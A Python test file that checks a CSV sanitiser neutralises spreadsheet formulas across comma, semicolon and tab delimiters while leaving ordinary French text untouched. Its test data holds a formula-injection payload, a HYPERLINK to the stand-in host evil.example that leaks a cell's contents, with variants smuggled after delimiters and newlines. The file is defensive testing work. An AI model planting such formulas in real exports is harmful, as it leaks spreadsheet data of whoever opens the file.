"""No spreadsheet runs what stands in a cell, be its columns parted by commas or by semicolons."""

import csv
import io

import pytest

from merite.files.safe_csv import safe_cell, safe_csv

LINK = '=HYPERLINK("http://evil.example/?"&A1)'


def begins_as_formula(cell):
    return cell.strip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    "text", [LINK, f"Bravo;{LINK}", f"Bravo; {LINK}", f"Bravo\n{LINK}", f"a;b\t{LINK};-1+1;@SUM(1)"]
)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_formula_stays_a_text_however_the_columns_are_parted(text, separator):
    written = safe_csv([("day", "text"), ("2026-03-02", text)])
    cells = [cell for row in csv.reader(io.StringIO(written), delimiter=separator) for cell in row]
    assert not any(map(begins_as_formula, cells))


@pytest.mark.parametrize("text", ["Super pain ;-)", "de 3-4 € ; merci", "a;b;c", "1+1=2", "le 02/03 – bravo", "x;-)"])
def test_what_people_write_stays_as_it_is(text):
    assert safe_cell(text) == text
